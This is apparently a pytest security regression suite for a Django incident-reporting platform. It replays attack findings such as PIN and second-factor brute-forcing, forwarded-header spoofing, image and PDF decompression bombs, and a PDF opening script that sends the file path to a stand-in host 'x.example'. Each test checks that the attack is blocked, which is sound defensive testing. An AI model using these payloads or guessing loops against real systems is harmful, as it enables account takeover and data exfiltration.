"""The attack run of issue 15, as tests: each failed on the main of 2026-12-06 and must keep passing.

One test class per finding; docs/security.md's threat model points here."""

from __future__ import annotations

import datetime as dt
from types import SimpleNamespace
from unittest import mock

import pytest
import time_machine
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from perisai.audit.choices import AuditAction
from perisai.audit.context import client_ip
from perisai.audit.models import AuditEvent
from perisai.core import ratelimit
from perisai.reports import services
from perisai.reports.tests.test_check_and_staff import submitted

pytestmark = pytest.mark.django_db


def guess(code: str, pin: str = "000000", client: str = "203.0.113.9"):
    try:
        services.report_check_pin(code=code, pin=pin, client=client)
    except services.PinLocked as locked:
        return locked.until
    except services.PinRejected:
        return None
    return "opened"


class PinLockTests:
    """Item 4: five wrong PINs lock a code for PERISAI_PIN_LOCK_MINUTES from the lock, whatever the clock says."""

    def test_guesses_on_both_sides_of_a_clock_boundary_still_lock_at_five(self, settings):
        code = submitted().report.tracking_code
        start = timezone.make_aware(dt.datetime(2026, 3, 2, 10, 29, 50))
        with time_machine.travel(start, tick=False) as clock:
            for _ in range(4):
                assert guess(code) is None
            clock.move_to(start + dt.timedelta(seconds=15))  # 10:30:05, past a half-hour boundary
            until = guess(code)
        assert until == start + dt.timedelta(seconds=15, minutes=settings.PERISAI_PIN_LOCK_MINUTES)

    def test_the_lock_lasts_its_full_time_from_the_lock(self, settings):
        submission = submitted()
        code, pin = submission.report.tracking_code, submission.pin
        locked_at = timezone.make_aware(dt.datetime(2026, 3, 2, 10, 29, 0))
        with time_machine.travel(locked_at, tick=False) as clock:
            for _ in range(5):
                guess(code)
            clock.move_to(locked_at + dt.timedelta(minutes=settings.PERISAI_PIN_LOCK_MINUTES - 1))
            assert guess(code, pin) == locked_at + dt.timedelta(minutes=settings.PERISAI_PIN_LOCK_MINUTES)
            clock.move_to(locked_at + dt.timedelta(minutes=settings.PERISAI_PIN_LOCK_MINUTES, seconds=1))
            assert guess(code, pin) == "opened"
        assert AuditEvent.objects.filter(action=AuditAction.REPORT_PIN_LOCKED).count() == 1


class PinTimingTests:
    """Item 8: a wrong PIN on a real code and on a made-up one do the same work (the same statements)."""

    def test_a_real_code_and_a_made_up_one_cost_the_same_statements(self):
        code = submitted().report.tracking_code
        statements = []
        for tried in (code, "LPR-2222-3333"):
            # One counter write in 500 also prunes old counters, on either path alike: held off, or that chance
            # alone failed this comparison about once in a hundred runs.
            with (
                mock.patch.object(ratelimit.secrets, "randbelow", return_value=1),
                CaptureQueriesContext(connection) as queries,
            ):
                assert guess(tried, client=f"client-{tried}") is None
            statements.append([q["sql"].split(" ")[0] for q in queries.captured_queries])
        assert statements[0] == statements[1]
        tries = AuditEvent.objects.filter(action=AuditAction.REPORT_PIN_FAILED)
        assert [event.extra.get("unknown_code") for event in tries.order_by("seq")] == [False, True]


class ClientAddressTests:
    """Item 7: X-Forwarded-For counts only as far as our own proxies vouch for it."""

    def request(self, forwarded: str | None):
        extra = {"REMOTE_ADDR": "10.0.0.2"}
        if forwarded is not None:
            extra["HTTP_X_FORWARDED_FOR"] = forwarded
        return RequestFactory().get("/", **extra)

    def test_without_trusted_proxies_the_header_is_ignored(self, settings):
        settings.PERISAI_TRUSTED_PROXIES = 0
        settings.PERISAI_BEHIND_TLS_PROXY = True
        assert client_ip(self.request("198.51.100.7")) == "10.0.0.2"

    def test_one_proxy_vouches_for_the_last_entry_only(self, settings):
        settings.PERISAI_TRUSTED_PROXIES = 1
        assert client_ip(self.request("1.2.3.4, 198.51.100.7")) == "198.51.100.7"  # 1.2.3.4: the client's own

    def test_two_proxies_vouch_for_the_last_two(self, settings):
        settings.PERISAI_TRUSTED_PROXIES = 2
        assert client_ip(self.request("1.2.3.4, 198.51.100.7, 10.0.0.9")) == "198.51.100.7"

    def test_a_short_or_garbled_header_falls_back_to_the_connection(self, settings):
        settings.PERISAI_TRUSTED_PROXIES = 2
        assert client_ip(self.request("198.51.100.7")) == "10.0.0.2"
        settings.PERISAI_TRUSTED_PROXIES = 1
        assert client_ip(self.request("not-an-address")) == "10.0.0.2"
        assert client_ip(self.request(None)) == "10.0.0.2"


class ReceiptReplayTests:
    """Item 3: the code and PIN are shown again only to the device that sent the form, within 30 minutes."""

    URL = "/lapor/"

    def sent(self):
        from django.test import Client

        from perisai.reports.tests.helpers import form_data

        reporter = Client()
        reporter.get(self.URL)  # the device cookie
        data = form_data()
        first = reporter.post(self.URL, data)
        assert first.status_code == 201 and first.context["pin"]
        return reporter, data, first.context["pin"]

    def test_the_form_page_is_never_stored(self, client):
        assert "no-store" in client.get(self.URL)["Cache-Control"]

    def test_the_same_token_from_another_device_gets_no_pin(self):
        from django.test import Client

        from perisai.core.selectors import attachments_of
        from perisai.core.tests.uploads import pdf

        _reporter, data, pin = self.sent()
        stranger = Client(REMOTE_ADDR="198.51.100.50")
        stranger.get(self.URL)
        again = stranger.post(self.URL, {**data, "attachments": [pdf("tambahan.pdf")]})
        assert again.status_code == 200 and again.context["pin"] is None
        assert pin not in again.content.decode()
        assert "tambahan.pdf tidak dilampirkan" in again.content.decode()  # nor files added to the report
        assert not attachments_of(again.context["report"]).exists()

    def test_the_same_device_after_half_an_hour_gets_no_pin(self):
        start = timezone.now()
        with time_machine.travel(start, tick=False) as clock:
            reporter, data, pin = self.sent()
            clock.move_to(start + dt.timedelta(minutes=29))
            assert reporter.post(self.URL, data).context["pin"] == pin  # a lost answer on a bad connection
            clock.move_to(start + dt.timedelta(minutes=31))
            later = reporter.post(self.URL, data)
        assert later.context["pin"] is None and pin not in later.content.decode()


class PoliceNumberAtRestTests:
    """Item 10: numbers typed before the field was encrypted are encrypted by the migration, and read back."""

    def test_the_migration_helper_encrypts_plain_rows_and_leaves_encrypted_ones(self, make_user):
        from django.apps import apps

        from perisai.accounts.choices import Role
        from perisai.cases.models import LegalTrackEntry
        from perisai.core.encrypt_existing import encrypt_column
        from perisai.stats.tests.test_counting import open_case

        officer, manager = make_user(Role.INTAKE_OFFICER), make_user(Role.CASE_MANAGER)
        entry = LegalTrackEntry.objects.create(
            case=open_case(officer, manager), agency=manager.agency, recorded_by=manager, legal_stage="penyidikan"
        )
        with connection.cursor() as cursor:
            cursor.execute(
                "UPDATE cases_legaltrackentry SET police_report_number = %s WHERE id = %s", ["LP/1", entry.pk]
            )
        # What RunPython passes, as far as the helper uses it (SQLite's schema editor will not open inside a
        # test's transaction).
        editor = SimpleNamespace(quote_name=connection.ops.quote_name, connection=connection)
        encrypt_column("cases", "legaltrackentry", "police_report_number")(apps, editor)
        encrypt_column("cases", "legaltrackentry", "police_report_number")(apps, editor)  # twice: no change
        with connection.cursor() as cursor:
            cursor.execute("SELECT police_report_number FROM cases_legaltrackentry WHERE id = %s", [entry.pk])
            assert cursor.fetchone()[0].startswith("enc1:")
        entry.refresh_from_db()
        assert entry.police_report_number == "LP/1"


class LanguageCookieTests:
    """Item 10: the language cookie travels like the session cookie: SameSite, HttpOnly, and Secure in production."""

    def test_choosing_a_language_sets_a_lax_httponly_cookie(self, client):
        response = client.post("/bahasa/", {"language": "en", "next": "/"})
        cookie = response.cookies["django_language"]
        assert cookie["samesite"] == "Lax" and cookie["httponly"]

    def test_in_production_it_is_secure(self, tmp_path):
        from perisai.core.tests.test_settings import manage, production_env

        shown = "from django.conf import settings as s; print(s.LANGUAGE_COOKIE_SECURE, s.LANGUAGE_COOKIE_SAMESITE)"
        result = manage(production_env(tmp_path), "shell", "--verbosity", "0", "-c", shown)
        assert result.stdout.split() == ["True", "Lax"], result.stderr


class LargeUploadTests:
    """Item 9: an oversized upload is counted as it arrives and dropped; nothing of it is written to disk, the
    report is kept, and the receipt says which file was not taken."""

    def no_temporary_files(self, monkeypatch):
        import django.core.files.uploadedfile as uploadedfile

        def refuse(*args, **kwargs):
            raise AssertionError("an upload was spooled to a temporary file in clear")

        monkeypatch.setattr(uploadedfile.tempfile, "NamedTemporaryFile", refuse)

    def post(self, files):
        from django.test import Client

        from perisai.reports.tests.helpers import form_data

        reporter = Client()
        reporter.get("/lapor/")
        return reporter.post("/lapor/", {**form_data(), "attachments": files})

    def test_a_file_over_the_limit_never_touches_the_disk(self, monkeypatch, settings):
        from django.core.files.uploadedfile import SimpleUploadedFile

        from perisai.reports.models import Report

        self.no_temporary_files(monkeypatch)
        big = SimpleUploadedFile("foto.jpg", b"\xff\xd8\xff\xe0" + b"\0" * (12 * 1024 * 1024), "image/jpeg")
        response = self.post([big])
        assert response.status_code == 201 and Report.objects.count() == 1
        assert "Berkas foto.jpg terlalu besar (maksimal 10 MB)." in response.content.decode()

    def test_a_request_longer_than_the_form_can_carry_keeps_its_text_but_no_file(self, monkeypatch, settings):
        from django.core.files.uploadedfile import SimpleUploadedFile

        from perisai.core.models import Attachment
        from perisai.reports.models import Report

        settings.PERISAI_ATTACHMENT_MAX_FILES, settings.PERISAI_ATTACHMENT_MAX_MB = 2, 1  # 3 MB with the text
        self.no_temporary_files(monkeypatch)
        small = SimpleUploadedFile("kecil.pdf", b"%PDF-1.4\n" + b"0" * 500_000, "application/pdf")
        large = SimpleUploadedFile("besar.pdf", b"%PDF-1.4\n" + b"0" * 3_000_000, "application/pdf")
        response = self.post([small, large])
        body = response.content.decode()
        assert response.status_code == 201 and Report.objects.count() == 1
        assert "Berkas kecil.pdf tidak diterima: lampiran seluruhnya lebih dari 3 MB." in body
        assert Attachment.objects.count() == 0


class CostlyImageTests:
    """Item 1: what decoding may cost is decided from the header, before a pixel is decoded."""

    def png(self, size) -> bytes:
        import io

        from PIL import Image

        out = io.BytesIO()
        Image.new("RGBA", size, (120, 30, 200, 255)).save(out, "PNG")
        return out.getvalue()

    def test_the_attack_png_is_refused_without_decoding(self, monkeypatch):
        from PIL import Image

        from perisai.core import attachments

        data = self.png((6000, 6600))  # 40 megapixels in about 160 KB
        monkeypatch.setattr(Image.Image, "load", lambda self: pytest.fail("the image was decoded"))
        with pytest.raises(attachments.AttachmentRejected, match="Foto terlalu besar"):
            attachments.check_upload("layar.png", len(data), [data])

    def test_a_large_phone_photo_is_kept_and_scaled_to_the_stored_size(self):
        import io

        from PIL import Image

        from perisai.core import attachments

        out = io.BytesIO()
        Image.new("RGB", (8000, 6000), "orange").save(out, "JPEG")  # a 48-megapixel mode
        checked = attachments.check_upload("foto.jpg", out.tell(), [out.getvalue()])
        assert Image.open(io.BytesIO(checked.data)).size == (4000, 3000)  # decoded at half scale, not re-sampled


class HiddenContentTests:
    """Item 2: audio and PDF lose their metadata and active content before they are stored or forwarded."""

    def test_a_pdf_loses_its_author_and_its_opening_script(self):
        import io

        import pikepdf

        from perisai.core import attachments
        from perisai.core.tests.uploads import real_pdf

        data = real_pdf(author="Budi Santoso", script="app.launchURL('http://x.example/'+this.path)")
        checked = attachments.check_upload("surat.pdf", len(data), [data])
        assert checked.metadata_removed
        for needle in (b"Budi", b"launchURL", b"/OpenAction", b"/JavaScript", b"/Metadata"):
            assert needle not in checked.data, needle
        with pikepdf.open(io.BytesIO(checked.data)) as cleaned:
            assert len(cleaned.pages) == 1 and "/Author" not in cleaned.docinfo

    def test_a_voice_note_loses_where_it_was_recorded_and_still_plays(self):
        import io

        import mutagen

        from perisai.core import attachments
        from perisai.core.tests.uploads import m4a

        data = m4a(location="+06.0344+106.0534/")
        checked = attachments.check_upload("rekaman.m4a", len(data), [data])
        assert b"106.0534" not in checked.data and b"\xa9xyz" not in checked.data
        assert mutagen.File(io.BytesIO(checked.data)).info.length == 1.0

    def test_an_mp3_loses_its_tags(self):
        from perisai.core import attachments
        from perisai.core.tests.uploads import mp3

        data = mp3(artist="Budi Santoso")
        checked = attachments.check_upload("rekaman.mp3", len(data), [data])
        assert b"Budi" not in checked.data and not checked.data.startswith(b"ID3")

    def test_a_locked_pdf_is_refused_with_a_reason(self):
        import io

        import pikepdf

        from perisai.core import attachments

        document = pikepdf.new()
        document.add_blank_page()
        out = io.BytesIO()
        document.save(out, encryption=pikepdf.Encryption(owner="x", user="rahasia"))
        with pytest.raises(attachments.AttachmentRejected, match="dikunci dengan sandi"):
            attachments.check_upload("surat.pdf", out.tell(), [out.getvalue()])

    def test_the_form_says_what_is_removed(self, client):
        assert "rekaman suara, dan PDF dihapus otomatis" in client.get("/lapor/").content.decode()


def sign_in(client, email: str, password: str | None = None):
    from conftest import PASSWORD

    return client.post("/akun/login/", {"login": email, "password": password or PASSWORD})


class LoginLimitTests:
    """Item 5: one client hammering the sign-in cannot lock out the office behind the same address; limits per
    account and per address hold, are audited, and say why in Indonesian."""

    OFFICE = "203.0.113.5"

    def test_a_client_hammering_does_not_block_colleagues_on_the_same_address(self, make_user):
        from django.test import Client

        from perisai.accounts.choices import Role

        make_user(Role.CASE_MANAGER, email="yuli@perisai.test")
        hammer = Client(REMOTE_ADDR=self.OFFICE)
        for n in range(40):
            sign_in(hammer, f"tebakan{n}@perisai.test", "salah-salah-123")
        colleague = Client(REMOTE_ADDR=self.OFFICE)
        response = sign_in(colleague, "yuli@perisai.test")
        assert response.status_code == 302 and response["Location"] == "/akun/2fa/authenticate/"

    def test_an_account_guessed_from_many_addresses_is_held_but_not_for_its_owner(self, make_user, settings):
        from django.test import Client

        from conftest import totp_code
        from perisai.accounts.choices import Role

        make_user(Role.CASE_MANAGER, email="yuli@perisai.test")
        owner = Client(REMOTE_ADDR="198.51.100.10")
        assert sign_in(owner, "yuli@perisai.test").status_code == 302
        owner.post("/akun/2fa/authenticate/", {"code": totp_code()})
        owner.post("/akun/logout/")
        for n in range(settings.PERISAI_LOGIN_ACCOUNT_LIMIT):
            sign_in(Client(REMOTE_ADDR=f"192.0.2.{n + 1}"), "yuli@perisai.test", "salah-salah-123")
        held = sign_in(Client(REMOTE_ADDR="192.0.2.200"), "yuli@perisai.test")  # even with the right password
        assert held.status_code == 200
        assert "Terlalu banyak percobaan masuk yang gagal untuk akun ini" in held.content.decode()
        assert AuditEvent.objects.filter(action=AuditAction.LOGIN_THROTTLED, extra__limit="account").exists()
        assert sign_in(owner, "yuli@perisai.test").status_code == 302  # the owner's browser is counted apart

    def test_an_address_over_its_limit_is_held_and_recorded(self, make_user, settings):
        from django.test import Client

        from perisai.accounts.choices import Role

        settings.PERISAI_LOGIN_ADDRESS_LIMIT = 5
        make_user(Role.CASE_MANAGER, email="yuli@perisai.test")
        script = Client(REMOTE_ADDR=self.OFFICE)
        for n in range(5):
            sign_in(script, f"tebakan{n}@perisai.test", "salah-salah-123")
        held = sign_in(script, "yuli@perisai.test")
        assert "Terlalu banyak percobaan masuk dari jaringan ini" in held.content.decode()
        assert AuditEvent.objects.filter(action=AuditAction.LOGIN_THROTTLED, extra__limit="address").exists()


class ProbingTraceTests:
    """Item 6: probing leaves a trace, at a bounded rate."""

    def test_a_signed_in_probe_of_other_ids_is_recorded_up_to_the_bound(self, make_user):
        import uuid

        from django.test import Client

        from perisai.accounts.choices import Role
        from perisai.core import security

        manager = make_user(Role.CASE_MANAGER)
        client = Client()
        client.force_login(manager)
        for _ in range(security.PER_SOURCE + 10):
            assert client.get(f"/staf/kasus/{uuid.uuid4()}/").status_code == 404
        events = AuditEvent.objects.filter(action=AuditAction.SECURITY_NOT_FOUND, actor=manager)
        assert events.count() == security.PER_SOURCE
        assert events.first().extra["path"].startswith("/staf/kasus/")

    def test_a_failed_csrf_check_is_recorded(self, make_user):
        from django.test import Client

        from perisai.accounts.choices import Role

        manager = make_user(Role.CASE_MANAGER)
        client = Client(enforce_csrf_checks=True)
        client.force_login(manager)
        response = client.post("/staf/akun/keluar-semua/")
        assert response.status_code == 403
        assert AuditEvent.objects.filter(action=AuditAction.SECURITY_CSRF, actor=manager).exists()

    def test_a_refused_report_flood_is_recorded(self, settings):
        from django.test import Client

        from perisai.reports.tests.helpers import form_data

        settings.PERISAI_REPORTS_HARD_LIMIT = 1
        sender = Client(REMOTE_ADDR="198.51.100.77")
        sender.post("/lapor/", form_data())
        assert sender.post("/lapor/", form_data()).status_code == 429
        event = AuditEvent.objects.get(action=AuditAction.SECURITY_RATE_LIMITED)
        assert event.extra == {"path": "/lapor/"} and event.ip_address == "198.51.100.77"


class SecondFactorGuessTests:
    """Review of issue 15: a stolen password must not open unlimited guessing of the six-digit code."""

    def test_five_wrong_codes_hold_the_code_step(self, make_user):
        from django.test import Client

        from conftest import totp_code
        from perisai.accounts.choices import Role

        make_user(Role.CASE_MANAGER, email="yuli@perisai.test")
        thief = Client(REMOTE_ADDR="192.0.2.66")
        assert sign_in(thief, "yuli@perisai.test").status_code == 302
        wrong = "000000" if totp_code() != "000000" else "111111"
        for _ in range(5):
            thief.post("/akun/2fa/authenticate/", {"code": wrong})
        held = thief.post("/akun/2fa/authenticate/", {"code": totp_code()})
        assert held.status_code == 200  # still on the code form, not signed in
        assert thief.get("/staf/").status_code == 302


class ReviewedCleaningTests:
    """What the review of issue 15 found still inside cleaned files, or too costly to clean."""

    def test_a_pdf_loses_comment_authors_attached_files_and_the_exif_of_its_photos(self):
        import io

        import pikepdf
        from PIL import Image

        from perisai.core import attachments
        from perisai.core.tests.uploads import GPS_IFD

        photo = Image.new("RGB", (32, 24), "orange")
        exif = Image.Exif()
        exif.get_ifd(GPS_IFD).update({1: "S", 2: (6.0, 2.0, 31.0)})
        exif[0x0110] = "Kamera Budi"
        jpeg = io.BytesIO()
        photo.save(jpeg, "JPEG", exif=exif)
        document = pikepdf.new()
        document.add_blank_page()
        image = pikepdf.Stream(document, jpeg.getvalue())
        image.Type, image.Subtype, image.Filter = pikepdf.Name.XObject, pikepdf.Name.Image, pikepdf.Name.DCTDecode
        image.Width, image.Height, image.BitsPerComponent = 32, 24, 8
        image.ColorSpace = pikepdf.Name.DeviceRGB
        page = document.pages[0]
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=document.make_indirect(image)))
        attached = pikepdf.Stream(document, b"catatan rahasia")
        page.Annots = document.make_indirect(
            pikepdf.Array(
                [
                    pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, T=pikepdf.String("Budi")),
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot,
                        Subtype=pikepdf.Name.FileAttachment,
                        FS=pikepdf.Dictionary(Type=pikepdf.Name.Filespec, EF=pikepdf.Dictionary(F=attached)),
                    ),
                ]
            )
        )
        document.trailer.Custom = pikepdf.String("Budi")
        out = io.BytesIO()
        document.save(out, compress_streams=False)
        checked = attachments.check_upload("surat.pdf", out.tell(), [out.getvalue()])
        with pikepdf.open(io.BytesIO(checked.data)) as cleaned:
            raw = b"".join(o.read_raw_bytes() for o in cleaned.objects if isinstance(o, pikepdf.Stream))
            assert "/Annots" not in cleaned.pages[0] and "/Custom" not in cleaned.trailer
            assert b"catatan rahasia" not in raw and b"Kamera Budi" not in raw and b"Exif" not in raw
            kept = next(o for o in cleaned.objects if isinstance(o, pikepdf.Stream) and o.get("/Width") == 32)
            assert Image.open(io.BytesIO(kept.read_raw_bytes())).size == (32, 24)  # the photo itself stays
        assert b"Budi" not in checked.data

    def test_a_pdf_that_unpacks_to_a_hundred_megabytes_is_refused_in_bounds(self, monkeypatch):
        import io

        import pikepdf

        from perisai.core import attachments, cleaning

        document = pikepdf.new()
        document.add_blank_page()
        document.Root.Big = pikepdf.String("A" * 100_000_000)
        out = io.BytesIO()
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        # Parsed in the limited child process only: never in the worker serving the request.
        monkeypatch.setattr(cleaning.pikepdf, "open", lambda *a, **k: pytest.fail("parsed in the worker"))
        with pytest.raises(attachments.AttachmentRejected, match="terlalu rumit"):
            attachments.check_upload("surat.pdf", out.tell(), [out.getvalue()])

    def test_a_large_progressive_jpeg_is_refused_from_its_header(self):
        import io

        from PIL import Image

        from perisai.core import attachments

        out = io.BytesIO()
        Image.new("RGB", (4800, 3600), "orange").save(out, "JPEG", progressive=True)  # 17 MP
        with pytest.raises(attachments.AttachmentRejected, match="paling besar 12"):
            attachments.check_upload("foto.jpg", out.tell(), [out.getvalue()])


class Ipv6PrefixTests:
    """Review of issue 15: an IPv6 client holds a whole /64; the address limits count the prefix."""

    def test_addresses_of_one_prefix_count_as_one(self):
        from perisai.core.ratelimit import address_key

        assert address_key("2001:db8:1:2::1") == address_key("2001:db8:1:2:ffff::9") == "2001:db8:1:2::/64"
        assert address_key("2001:db8:1:3::1") != address_key("2001:db8:1:2::1")
        assert address_key("198.51.100.7") == "198.51.100.7" == address_key("::ffff:198.51.100.7")
        assert address_key(None) == "unknown"

    def test_rotating_through_a_prefix_does_not_escape_the_pin_lock(self, settings):
        made_up = [f"LPR-2222-AB{a}{b}" for a in "CDEFGH" for b in "JKMNP"]  # 30 codes, under each code's limit
        for n in range(settings.PERISAI_PIN_MAX_ATTEMPTS * 6):
            guess(made_up[n], client=f"2001:db8:1:2::{n + 1:x}")  # a new address every time, one /64
        assert guess("LPR-4444-5555", client="2001:db8:1:2::abcd") is not None  # the prefix is locked
        assert guess("LPR-4444-5555", client="2001:db8:1:3::1") is None  # the next prefix is not


class TrustedDeviceTests:
    def test_guessing_with_a_copied_cookie_holds_that_browser_only(self, make_user, settings):
        from django.test import Client

        from conftest import totp_code
        from perisai.accounts.choices import Role
        from perisai.accounts.login_limits import COOKIE

        make_user(Role.CASE_MANAGER, email="yuli@perisai.test")
        office_pc, phone = Client(), Client()
        for browser in (office_pc, phone):
            sign_in(browser, "yuli@perisai.test")
            browser.post("/akun/2fa/authenticate/", {"code": totp_code()})
            browser.post("/akun/logout/")
        copy = Client(REMOTE_ADDR="192.0.2.99")
        copy.cookies[COOKIE] = office_pc.cookies[COOKIE].value
        for _ in range(settings.PERISAI_LOGIN_ACCOUNT_LIMIT):
            sign_in(copy, "yuli@perisai.test", "salah-salah-123")
        assert "Terlalu banyak percobaan" in sign_in(copy, "yuli@perisai.test").content.decode()
        assert sign_in(phone, "yuli@perisai.test").status_code == 302
